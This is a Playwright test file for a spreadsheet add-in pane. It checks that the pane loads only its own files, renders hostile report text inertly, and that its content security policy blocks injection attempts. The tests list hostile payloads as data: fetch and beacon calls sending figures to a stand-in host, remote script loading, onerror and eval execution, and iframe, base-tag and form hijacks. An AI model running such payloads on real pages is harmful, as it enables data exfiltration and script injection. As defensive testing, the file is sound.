import type { Page } from "playwright-core";
import { LocalPage } from "../host/page/local-page";
import { WORDS } from "../security/hostile-rows";
import { openBeforeEach, pane as onePane } from "./one-pane";
import { acceptFirst, open, openAll, pane, REPORT, walkThePane } from "./pane-states";

/** Every other browser test is held to the same when it closes its page: see LocalPage.release. */
describe("the pane beside the local workbook", () => {
  walkThePane();

  test("asks for nothing but its own files, and does nothing that its policy stops, from reading to publishing", async () => {
    const asked: string[] = [];
    await open("blank");
    pane.page.on("request", (request) => asked.push(request.url()));
    await pane.press("Import from a report");
    await pane.field("Text of the report").fill(REPORT);
    await pane.press("Read it");
    await pane.press("Put on a new sheet");
    await pane.shows('Added the sheet "Medium term savings plan".');
    await pane.view("Checks");
    await acceptFirst("Agreed on 3 March.");
    await pane.view("Tables");
    await openAll();
    await pane.press("Create scrutiny summary");
    await pane.shows("Summary ready");
    await pane.view("Summary");
    await pane.press("Publish a copy");
    await pane.shows("Copy opened");
    // What is loaded when it is needed was loaded, all of it from the page's own address.
    const { origin } = new URL(pane.page.url());
    const files = asked.filter((url) => url.startsWith(`${origin}/add-in/`)).map((url) => new URL(url).pathname);
    expect(files).toEqual(expect.arrayContaining(["/add-in/importing.js", "/add-in/sheets.js", "/add-in/hucre.js"]));
    expect(asked.filter((url) => !url.startsWith(`${origin}/`) && !url.startsWith("blob:"))).toEqual([]);
  });
});

describe("a hostile paper", () => {
  openBeforeEach({ "<b>Plan<b>": WORDS.slice(0, 80) });

  test("is shown as words: nothing of it becomes an element or is run, in the pane, on its sheet or on the summary's", async () => {
    const markup = () =>
      onePane.page.evaluate(() => ({
        ran: "ran" in window,
        elements: document.querySelectorAll("img[src=x], #pane img, #pane iframe, #pane script, .grid script, .grid b")
          .length,
      }));
    await onePane.view("Checks");
    await onePane.root.locator("details").evaluateAll((all) => all.forEach((each) => each.setAttribute("open", "")));
    expect(await markup()).toEqual({ ran: false, elements: 0 });
    await onePane.press("Create scrutiny summary");
    await onePane.shows("Summary ready");
    await onePane.sheets().filter({ hasText: "Savings by line" }).click();
    expect(await markup()).toEqual({ ran: false, elements: 0 });
  });
});

describe("a page that was made to do otherwise is stopped, and a test would say so:", () => {
  let local: LocalPage;
  let page: Page;
  beforeAll(async () => {
    local = await LocalPage.launch();
    page = await local.open();
  });
  afterAll(() => local.close());

  const add = (html: string) => `document.body.insertAdjacentHTML("beforeend", "${html}")`;
  const script = (of: string) => `document.body.append(Object.assign(document.createElement("script"), { ${of} }))`;

  test.each<[string, string, string]>([
    ["a request to another server", "fetch('https://elsewhere.example/?figures')", "connect-src"],
    ["a report as the page closes", "navigator.sendBeacon('https://elsewhere.example/')", "connect-src"],
    ["an image from another server", "new Image().src = 'https://elsewhere.example/a.png'", "img-src"],
    ["a script from another server", script("src: 'https://elsewhere.example/a.js'"), "script-src-elem"],
    ["a script that stands in the page", script("text: 'var ran = 1'"), "script-src-elem"],
    ["markup that runs something", add("<img src=data: onerror='var ran = 1'>"), "script-src-attr"],
    ["a text that is run", "(0, eval)('var ran = 1')", "script-src"],
    ["a worker", "new Worker(URL.createObjectURL(new Blob(['1'])))", "worker-src"],
    ["a frame", add("<iframe src=https://elsewhere.example/></iframe>"), "frame-src"],
    ["another base for addresses", add("<base href=https://elsewhere.example/>"), "base-uri"],
    [
      "a form that is sent",
      `${add("<form action=https://elsewhere.example/></form>")}; document.forms[0].submit()`,
      "form-action",
    ],
  ])("%s", async (_what, deed, directive) => {
    // Later, for what a test runs directly is not held to the policy.
    await page.evaluate(`void setTimeout(() => { ${deed} })`);
    const stopped: string[] = [];
    while (stopped.length === 0) {
      await page.evaluate("new Promise((drawn) => requestAnimationFrame(drawn))");
      stopped.push(...local.strayed(page));
    }
    expect(stopped.join("\n")).toContain(`was stopped by its policy: ${directive} `);
    expect(await page.evaluate("typeof ran")).toBe("undefined");
  });
});
